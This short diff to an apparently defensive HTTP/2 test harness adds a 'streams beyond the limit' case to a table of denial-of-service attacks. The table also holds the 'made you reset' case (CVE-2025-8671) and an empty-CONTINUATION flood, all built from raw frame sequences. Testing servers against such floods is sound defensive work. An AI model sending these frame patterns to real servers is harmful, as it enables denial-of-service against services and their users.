@@ -104,6 +104,9 @@ ATTACKS = {
     "made you reset": Attack(
         "made_you_reset", on_streams(lambda s: ask(s, flags=END_HEADERS) + frame(WINDOW_UPDATE, 0, s, b"\0\0\0\0"), 2),
         what="CVE-2025-8671"),
+    "streams beyond the limit": Attack(
+        "made_you_reset", on_streams(lambda s: ask(s, GET_LARGE), 1),
+        opening=PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)), what="RFC 9113 §5.1.2"),
     "empty CONTINUATION": Attack(
         "continuation_flood",
         lambda: itertools.chain([(frame(HEADERS, 0, 1, b"\x82"), 1)], itertools.repeat((frame(CONTINUATION, 0, 1) * 50, 50))),
